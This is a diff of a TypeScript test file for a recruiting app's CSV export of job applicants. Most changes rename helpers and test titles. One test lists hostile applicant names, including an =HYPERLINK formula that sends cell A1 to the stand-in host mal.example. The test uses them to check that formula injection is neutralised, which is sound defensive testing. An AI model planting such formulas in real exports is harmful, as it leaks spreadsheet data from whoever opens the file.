@@ -23,10 +23,10 @@ const download = async (vacancy: { id: string }, as: Person, query = '') =>
     headers: await authorization(as),
   });
 
-const tableOf = (text: string): string[][] =>
+const parseTable = (text: string): string[][] =>
   parse(text, { delimiter: ';', bom: true, record_delimiter: '\r\n' });
 
-test('the applicants are a table that Excel opens, in which no name is a formula', async () => {
+test('Excel opens the applicants as a table in which no cell is a formula', async () => {
   const vacancy = await aVacancy(db, padaria, { title: 'Padeira "chefe"; São João' });
   const hostile = [
     '=HYPERLINK("http://mal.example?"&A1;"Clique")',
@@ -63,7 +63,7 @@ test('the applicants are a table that Excel opens, in which no name is a formula
   });
   expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   expect(response.body.split('\r\n')).toHaveLength(hostile.length + 3);
-  const [header = [], ...rows] = tableOf(response.body);
+  const [header = [], ...rows] = parseTable(response.body);
   expect(header.slice(0, 3)).toEqual(['Nome', 'E-mail', 'Telefone']);
   // Five names start like a formula and are now text.
   expect(rows.map(([name]) => name).sort()).toEqual(
@@ -85,7 +85,7 @@ test('the applicants are a table that Excel opens, in which no name is a formula
   ]);
 });
 
-test('the table contains the applicants of the list in its order, including hidden but no banned ones', async () => {
+test('the table has the filters and order of the list, with hidden but without banned candidates', async () => {
   const vacancy = await aVacancy(db, padaria);
   const [ana, bia, caio, davi] = await Promise.all(
     [
@@ -100,14 +100,14 @@ test('the table contains the applicants of the list in its order, including hidd
     .insertInto('application_rating')
     .values(ratingRow({ candidate_id: bia?.id ?? '', vacancy_id: vacancy.id }, padaria, 4))
     .execute();
-  const names = async (query: string) =>
-    tableOf((await download(vacancy, padaria, query)).body)
+  const namesWithRatings = async (query: string) =>
+    parseTable((await download(vacancy, padaria, query)).body)
       .slice(1)
       .map((row) => `${row[0]} ${row[12]}`.trim());
 
-  expect(await names('order=rating')).toEqual(['Bia 4', 'Davi', 'Ana']);
-  expect(await names('state=SP&order=oldest')).toEqual(['Ana', 'Bia 4']);
-  expect(await names('status=Aprovado')).toEqual([]);
+  expect(await namesWithRatings('order=rating')).toEqual(['Bia 4', 'Davi', 'Ana']);
+  expect(await namesWithRatings('state=SP&order=oldest')).toEqual(['Ana', 'Bia 4']);
+  expect(await namesWithRatings('status=Aprovado')).toEqual([]);
 });
 
 test('a table of several batches contains everybody once', async () => {
@@ -140,7 +140,7 @@ test('a table of several batches contains everybody once', async () => {
   });
   for (const order of ['newest', 'match'])
     expect(
-      new Set(tableOf((await download(vacancy, padaria, `order=${order}`)).body).map(([name]) => name)).size,
+      new Set(parseTable((await download(vacancy, padaria, `order=${order}`)).body).map(([name]) => name)).size,
     ).toBe(502);
 });
 
@@ -153,14 +153,14 @@ test('only the company itself can export, with a limit', async () => {
   expect(await codeOf(await aCandidate(db))).toBe('wrong_role');
   expect(await codeOf(await anAdmin(db))).toBe('wrong_role');
   expect(await codeOf(padaria, 'order=salary')).toBe('invalid_input');
-  for (let counted = 0; counted < 30; counted += 1)
+  for (let exported = 0; exported < 30; exported += 1)
     await services.rateLimits.tryConsume(applicantLimits.applicantExport, padaria.id);
-  const refused = await download(vacancy, padaria);
-  expect([refused.statusCode, refused.json<{ code: string }>().code]).toEqual([429, 'too_many_requests']);
+  const refusal = await download(vacancy, padaria);
+  expect([refusal.statusCode, refusal.json<{ code: string }>().code]).toEqual([429, 'too_many_requests']);
 });
 
-/** Columns that the table leaves out, each with the reason. */
-const leftOut = {
+/** Columns that are not in the table, each with the reason. */
+const omittedColumns = {
   'application.applied_day': 'computed from the time of the application',
   'application.opening_tell_at': 'when a pending notification is sent',
   'application.reply_reminded': 'for the notice',
@@ -199,14 +199,14 @@ const leftOut = {
   'candidate.visible': 'applicants are in the table, hidden or not',
 } as const;
 
-test('every column about an applicant is in the table, or left out for a reason', async () => {
+test('every column about an applicant is in the table, or omitted for a reason', async () => {
   const vacancy = await aVacancy(db, padaria);
-  const recorded = recordStatements(services.pool);
-  await Array.fromAsync(writeApplicants(recorded.db, vacancy.id, { order: 'oldest' }));
+  const recording = recordStatements(services.pool);
+  await Array.fromAsync(writeApplicants(recording.db, vacancy.id, { order: 'oldest' }));
 
-  const unread = await findUnreadColumns(db, ['candidate', 'application'], recorded.statements);
+  const unread = await findUnreadColumns(db, ['candidate', 'application'], recording.statements);
 
-  expect(unread.sort(), 'Add a new column to the table, or to leftOut with the reason.').toEqual(
-    Object.keys(leftOut).sort(),
+  expect(unread.sort(), 'Add a new column to the table, or to omittedColumns with the reason.').toEqual(
+    Object.keys(omittedColumns).sort(),
   );
 });
